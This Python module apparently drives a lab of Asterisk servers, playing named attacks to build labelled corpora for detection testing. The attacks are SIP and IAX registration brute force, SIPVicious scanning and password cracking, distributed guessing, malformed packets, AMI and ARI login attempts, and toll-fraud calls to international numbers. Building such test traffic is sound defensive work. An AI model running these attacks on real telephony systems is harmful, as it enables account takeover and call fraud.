"""The attacks of the lab, by name: own clients and the real tools attackers use.

KINDS maps a name to a function (lab, target, source) that plays one bounded attack from one address. The
names are labels in the corpora; CAMPAIGN says which kinds make sense against which target.
"""

import os
import shutil
import subprocess
import tempfile
import time
from dataclasses import dataclass
from functools import partial

import ami
import iax
import net as lab_net
import ssh
import streams
from sip import Client

HERE = os.path.dirname(os.path.abspath(__file__))
FRAUD_NUMBERS = ("00972592577956", "900972592577956", "011972592577956", "9011972592577956")
TRIES = 6


@dataclass(frozen=True)
class Target:
    """A SIP service of the lab: a server's role, its ports, and accounts of each sort in it."""

    name: str
    role: str
    port: int
    tls_port: int
    known: str
    weak: str
    fenced: str
    static: str = ""

    def address(self, source):
        return lab_net.server_address(self.role, lab_net.family_of(source))

    def port_of(self, transport):
        """WebSockets come in through the HTTP server."""
        ports = {"tls": self.tls_port, "ws": ami.HTTP_PORT, "wss": ami.HTTPS_PORT}
        return ports.get(transport, self.port)


CHAN_SIP_16 = Target("16 chan_sip", "srv16", 5060, 5061, "100", "110", "120", "130")
PJSIP_16 = Target("16 pjsip", "srv16", 5160, 5161, "600", "610", "620")
PJSIP_22 = Target("22 pjsip", "srv22", 5060, 5061, "600", "610", "620")


def register(lab, target, source, user=None, tries=TRIES, transport="udp", password="wrong{}", **how):
    """Registers again and again; the default is the classic: a known account and wrong passwords."""
    for number in range(tries):
        with Client(lab, source, target.address(source), target.port_of(transport), transport) as client:
            secret = password and password.format(number)
            client.register(user.format(number) if user else target.known, secret, **how)


def fenced(lab, target, source):
    register(lab, target, source, target.fenced, password=f"Lab-Phone-{target.fenced}")


def static(lab, target, source):
    register(lab, target, source, target.static, tries=3, password=f"Lab-Phone-{target.static}")


def invite(lab, target, source, numbers, user="guest", password=None, transport="udp", **parts):
    """Calls each number in turn, as a guest or with a password for an account."""
    for number in numbers:
        with Client(lab, source, target.address(source), target.port_of(transport), transport) as client:
            client.invite(number, user or target.known, password, **parts)


def tls_trouble(lab, target, source, port, play=streams.garbage, tries=TRIES):
    """Connections to a TLS port that do not come to a handshake, one way or another."""
    for _ in range(tries):
        play(lab, source, target.address(source), port)


def other_methods(lab, target, source):
    for method in ("SUBSCRIBE", "MESSAGE", "NOTIFY", "PUBLISH", "INFO", "FOO"):
        with Client(lab, source, target.address(source), target.port, timeout=0.6) as client:
            uri = f"sip:{target.known}@{client.domain}"
            client.request(method, uri, from_="<sip:scan@198.51.100.9>", to=f"<{uri}>", extra=("Event: presence",))


def malformed(lab, target, source):
    whole = b"REGISTER sip:x SIP/2.0\r\nVia: SIP/2.0/UDP 1;branch=z9hG4bKx\r\n"
    broken = (b"\0" * 64, b"REGISTER\r\n\r\n", whole + b"\r\n", whole + b"From: <sip:" + b"a" * 900 + b"\r\n\r\n",
              whole.replace(b"SIP/2.0\r", b"SIP/9.9\r") + b"CSeq: x y\r\n\r\n")  # fmt: skip
    with Client(lab, source, target.address(source), target.port) as client:
        for data in broken:
            client.send(data)


def distributed(lab, target, source):
    """One try from each of six addresses: none alone reaches a threshold."""
    first, _, last = source.rpartition(".")
    for number in range(6):
        register(lab, target, f"{first}.{int(last) + number}", tries=1)


def stolen_account(lab, target, source):
    """The right password from a strange address, then calls abroad."""
    with Client(lab, source, target.address(source), target.port) as client:
        client.register(target.weak, "sunshine")
        for number in FRAUD_NUMBERS[:2]:
            client.call(number, target.weak, "sunshine")


def run_tool(lab, source, *words, seconds=15):
    """Runs an attacker's tool in its own folder, with an end to its time. Its text goes nowhere."""
    with tempfile.TemporaryDirectory() as home:
        try:
            subprocess.run(
                lab.command(lab.role_of(source), *words), cwd=home, env={**os.environ, "HOME": home},
                timeout=seconds, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            )  # fmt: skip
        except subprocess.TimeoutExpired:
            pass


# svwar and svcrack of 0.3.3 take -b and then listen on every address all the same, so that the kernel would
# choose the source. The tool runs as it is, by the Python of its package; only the address it binds is put right.
_BIND = """
import os, runpy, socket, sys
source, plain = sys.argv[1], socket.socket.bind
def bind(sock, address):
    plain(sock, (source, *address[1:]) if address[0] in ("", "0.0.0.0", "::") else address)
socket.socket.bind = bind
sys.argv = sys.argv[2:]
sys.path[0] = os.path.dirname(os.path.realpath(sys.argv[0]))
runpy.run_path(sys.argv[0], run_name="__main__")
"""


def _vicious(lab, target, source, tool, *words):
    options = ["-6"] if ":" in source else []
    options += ["-b", source, "-x", source, "-p", target.port, *words]
    run_tool(lab, source, "/usr/bin/python3", "-c", _BIND, source, shutil.which(tool), *options, target.address(source))


def svmap(lab, target, source, method):
    _vicious(lab, target, source, "svmap", "-m", method)


def svwar(lab, target, source, method):
    _vicious(lab, target, source, "svwar", "-m", method, "-e", f"{target.known}-{int(target.known) + 9}")


def svcrack(lab, target, source, user, words):
    with tempfile.NamedTemporaryFile("w", suffix=".txt") as dictionary:
        dictionary.write("\n".join(words) + "\n")
        dictionary.flush()
        _vicious(lab, target, source, "svcrack", "-u", user, "-d", dictionary.name)


def svcrack_weak(lab, target, source):
    words = [*(f"guess{number}" for number in range(9)), "sunshine"]
    svcrack(lab, target, source, target.weak, words)


def svcrack_strong(lab, target, source):
    svcrack(lab, target, source, target.known, [f"guess{number}" for number in range(20)])


def sipp(lab, target, source, calls=10):
    """The load tool with a scenario of ours: registrations with a wrong password."""
    server = target.address(source)
    server = f"[{server}]" if ":" in server else server
    run_tool(
        lab, source, "sipp", "-sf", f"{HERE}/sipp-register.xml", "-i", source, "-m", calls, "-r", "20",
        "-s", target.known, "-au", target.known, "-ap", "wrong", "-nostdin", "-timeout", "10",
        f"{server}:{target.port}",
    )  # fmt: skip


def ami_login(lab, target, source, user, password="wrong", tries=4, md5=False):
    for _ in range(tries):
        with ami.Session(lab, source, target.role) as session:
            (session.login_md5 if md5 else session.login)(user, password)


def ami_junk(lab, target, source):
    for text in ("GET / HTTP/1.0\r\n\r\n", "Action: Status\r\n\r\n", "Action: Command\r\nCommand: core\r\n\r\n"):
        with ami.Session(lab, source, target.role, timeout=1.5) as session:
            session.sendall(text)
            session.read()


def http_ami(lab, target, source):
    for user in ("panel", "panel", "nobody"):
        ami.http_login(lab, source, target.role, user)
    for user in ("panel", "nobody"):
        response = f'Digest username="{user}", realm="asterisk", nonce="1", uri="/arawman", response="0"'
        ami.http_get(lab, source, target.role, "/arawman?action=ping", {"Authorization": response})


def http_scan(lab, target, source):
    for path in ("/", "/admin/config.php", "/recordings/", "/ari/channels", "/ws", "/httpstatus", "/static/x"):
        ami.http_get(lab, source, target.role, path)


def ari_login(lab, target, source):
    for number in range(5):
        ami.http_get(lab, source, target.role, f"/ari/asterisk/info?api_key=panel:wrong{number}")


def iax_register(lab, target, source, user, password="wrong", tries=TRIES):
    for _ in range(tries):
        iax.register(lab, source, target.role, user, password)


def iax_call(lab, target, source, user="", number="00972592577956", tries=4):
    for _ in range(tries):
        iax.call(lab, source, target.role, number, user, "wrong")


def iax_without_token(lab, target, source):
    for _ in range(2):
        iax.without_token(lab, source, target.role, b"700")


def ssh_wrong_password(lab, source, tries=TRIES, user=ssh.SSH_USER, role="sshsrv"):
    """Wrong passwords, one connection each; a name with {} changes from try to try."""
    for number in range(tries):
        ssh.login(lab, source, user.format(number), f"wrong{number}", role)


SIP_KINDS = {
    "svmap-options": partial(svmap, method="OPTIONS"),
    "svmap-invite": partial(svmap, method="INVITE"),
    "svmap-register": partial(svmap, method="REGISTER"),
    "svwar-register": partial(svwar, method="REGISTER"),
    "svwar-invite": partial(svwar, method="INVITE"),
    "svwar-options": partial(svwar, method="OPTIONS"),
    "svcrack-weak": svcrack_weak,
    "svcrack-strong": svcrack_strong,
    "reg-wrong-pass": register,
    "reg-unknown-user": partial(register, user="9{}9"),
    "reg-unknown-nocred": partial(register, user="8{}8", password=None, tries=8),
    "reg-known-nocred": partial(register, password=None, tries=8),
    "reg-acl": fenced,
    "reg-authname-mismatch": partial(register, auth_name="somebody"),
    "inv-guest-noext": partial(invite, numbers=("1000", "2000", "3000", "4000")),
    "inv-guest-fraud": partial(invite, numbers=FRAUD_NUMBERS),
    "inv-known-nocred": partial(invite, numbers=FRAUD_NUMBERS[:2], user=None),
    "inv-known-wrongpass": partial(invite, numbers=FRAUD_NUMBERS, user=None, password="wrong"),
    "inv-unknown-wrongpass": partial(invite, numbers=FRAUD_NUMBERS, user="9009", password="wrong"),
    "inv-anonymous": partial(invite, numbers=FRAUD_NUMBERS[:3], from_='"Anonymous" <sip:anonymous@anonymous.invalid>'),
    "other-methods": other_methods,
    "malformed": malformed,
    "tcp-reg-wrong": partial(register, tries=4, transport="tcp"),
    "sipp-reg-wrong": sipp,
    "compromised-account": stolen_account,
    "v6-reg-wrong": partial(register, tries=4),
    "v6-reg-unknown": partial(register, user="9{}9", tries=4),
    "v6-inv-guest": partial(invite, numbers=FRAUD_NUMBERS[:3]),
    "reg-not-dynamic": static,
    "distributed-bruteforce": distributed,
}
SERVER_KINDS = {
    "ami-wrong-pass": partial(ami_login, user="panel"),
    "ami-unknown-user": partial(ami_login, user="nobody", tries=3),
    "ami-acl": partial(ami_login, user="guard", password="Lab-Guard-Manager", tries=3),
    "ami-md5-wrong": partial(ami_login, user="panel", tries=3, md5=True),
    "ami-raw-junk": ami_junk,
    "http-ami-wrong": http_ami,
    "http-scan": http_scan,
    "ari-wrong-pass": ari_login,
    "iax-reg-wrong": partial(iax_register, user="700"),
    "iax-reg-unknown": partial(iax_register, user="799", tries=4),
    "iax-reg-acl": partial(iax_register, user="720", password="Lab-Phone-720", tries=3),
    "iax-call-wrong": partial(iax_call, user="700"),
    "iax-call-guest": iax_call,
    "iax-notoken": iax_without_token,
}
KINDS = {**SIP_KINDS, **SERVER_KINDS}


def campaign(target, with_server=True):
    """The kinds that fit a target, each with its own attacker's address: (kind, source) pairs."""
    base = {"16 pjsip": 100}.get(target.name, 1)
    kinds = [kind for kind in SIP_KINDS if target.static or kind != "reg-not-dynamic"]
    kinds += SERVER_KINDS if with_server else []
    for number, kind in enumerate(kinds):
        host = base + number if kind != "distributed-bruteforce" else base + 60
        yield kind, f"2001:db8:bad::{host:x}" if kind.startswith("v6-") else f"203.0.113.{host}"


def play(lab, target, kind, source):
    """Plays one attack; returns the seconds it took. A ban in the middle of it is no fault of the attack."""
    start = time.monotonic()
    try:
        KINDS[kind](lab, target, source)
    except OSError:
        pass
    return time.monotonic() - start
